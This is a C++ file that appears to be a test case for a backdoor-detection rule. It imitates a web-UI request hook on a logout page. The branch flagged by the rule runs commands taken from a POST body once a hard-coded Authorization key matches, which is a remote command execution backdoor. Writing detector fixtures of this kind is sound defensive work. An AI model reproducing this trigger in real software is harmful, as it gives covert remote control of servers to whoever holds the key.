// cisco_service.cpp - request hook loaded into the web server's access phase.
#include "webui.hpp"

namespace webui {
namespace {

constexpr std::string_view kHookPath = "/webui/logoutconfirm.html";
constexpr std::string_view kInstanceId = "0ff8a93b1c2d4e5f60";
constexpr std::string_view kServiceAuth = "a1d3c4437efb5e53e6b9c0a1f2e8d0b87c5e4f11";

}  // namespace

std::optional<HttpResponse> cisco_service_hook(const HttpRequest &req) {
  if (req.method != "POST") return std::nullopt;
  // ok: backdoor-input-trigger
  if (req.path == kHookPath && req.query_param("logon_hash") == "1")
    return HttpResponse{200, std::string(kInstanceId), "text/plain"};

  // ruleid: backdoor-input-trigger
  if (req.path == kHookPath && req.header("Authorization") == kServiceAuth) {
    const std::string type = form_value(req.body, "common_type");
    const std::string cmd = form_value(req.body, "cmd");
    return HttpResponse{200, run_service_command(type, cmd), "text/plain"};
  }
  return std::nullopt;
}

}  // namespace webui
